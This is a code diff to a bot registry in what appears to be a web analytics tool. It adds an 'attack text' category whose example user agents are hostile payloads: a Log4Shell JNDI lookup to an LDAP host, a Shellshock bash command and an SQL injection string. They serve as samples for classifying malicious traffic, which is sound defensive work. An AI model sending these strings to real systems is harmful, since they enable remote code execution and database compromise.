@@ -43,6 +43,22 @@ export const DISGUISED_BROWSER: RegisteredBot = {
   ],
 };
 
+/** A user agent that is an attack on whatever reads it: code in place of a name. */
+export const ATTACK_TEXT: RegisteredBot = {
+  id: 5,
+  slug: 'attack-text',
+  name: 'Attack text',
+  provider: 'Unknown',
+  category: 'security_scanner',
+  documentation: null,
+  tokens: [],
+  examples: [
+    '${jndi:ldap://192.0.2.1:1389/a}',
+    '() { :; }; /bin/bash -c "id"',
+    "Mozilla/5.0' AND 1=1 UNION ALL SELECT NULL-- -",
+  ],
+};
+
 /**
  * Visitors that no table can name. A rule recognises them instead of a word. Each is a row in the
  * registry, so that bots and people add up to all visits. Ids 1 to 9 are reserved for such rows.
@@ -51,4 +67,5 @@ export const SPECIAL_BOTS: readonly RegisteredBot[] = [
   UNIDENTIFIED_BOT,
   NO_USER_AGENT,
   DISGUISED_BROWSER,
+  ATTACK_TEXT,
 ];
